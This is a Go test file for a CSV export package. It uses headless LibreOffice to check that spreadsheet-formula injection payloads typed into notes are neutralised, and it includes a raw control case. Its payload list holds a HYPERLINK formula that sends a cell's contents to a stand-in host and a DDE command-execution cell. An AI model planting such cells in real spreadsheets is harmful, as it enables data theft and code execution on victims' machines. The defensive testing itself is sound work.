package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ppei-iceberg/iceberg/data"
	"github.com/ppei-iceberg/iceberg/export/internal/officetest"
)

// hostileCells are notes typed to run as spreadsheet formulas.
var hostileCells = []string{
	"=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
	"+1+2",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=2+2",
	"=cmd|' /C calc'!A0",
}

// formulas converts CSV files with LibreOffice, headless, in one start,
// to flat OpenDocument spreadsheets and returns the formulas each holds.
func formulas(t *testing.T, csvs ...[]byte) [][]string {
	t.Helper()
	dir := t.TempDir()
	var srcs []string
	for i, c := range csvs {
		src := filepath.Join(dir, fmt.Sprintf("shading-%d.csv", i+1))
		if err := os.WriteFile(src, c, 0o644); err != nil {
			t.Fatal(err)
		}
		srcs = append(srcs, src)
	}
	var all [][]string
	for _, path := range officetest.ConvertAll(t, "fods", srcs...) {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, part := range strings.Split(string(b), "table:formula=\"")[1:] {
			f, _, _ := strings.Cut(part, "\"")
			out = append(out, f)
		}
		all = append(all, out)
	}
	return all
}

// The CSV opens in LibreOffice Calc with every hostile note as text and no
// formula; the same cells written raw do become formulas, so the check
// can fail.
func TestCSVHasNoFormulaInLibreOffice(t *testing.T) {
	t.Parallel()
	fw := data.DefaultFramework()
	r := fullRecord(t, fw, 10)
	for i := range r.Words {
		r.Words[i].Note = hostileCells[i%len(hostileCells)]
	}
	r.Title = "=1+1"
	var buf bytes.Buffer
	if err := WriteCSV(&buf, fw, r, Options{}); err != nil {
		t.Fatal(err)
	}
	var raw bytes.Buffer
	w := csv.NewWriter(&raw)
	for _, c := range hostileCells {
		_ = w.Write([]string{"x", c})
	}
	w.Flush()
	got := formulas(t, buf.Bytes(), raw.Bytes())
	if len(got[0]) != 0 {
		t.Errorf("LibreOffice found %d formulas in the CSV: %q", len(got[0]), got[0])
	}
	if len(got[1]) == 0 {
		t.Errorf("the unneutralised cells gave no formula either: the check cannot tell")
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := rows[1][4], "'"+hostileCells[0]; got != want {
		t.Errorf("note cell %q, want %q (the text as typed, after an apostrophe)", got, want)
	}
}
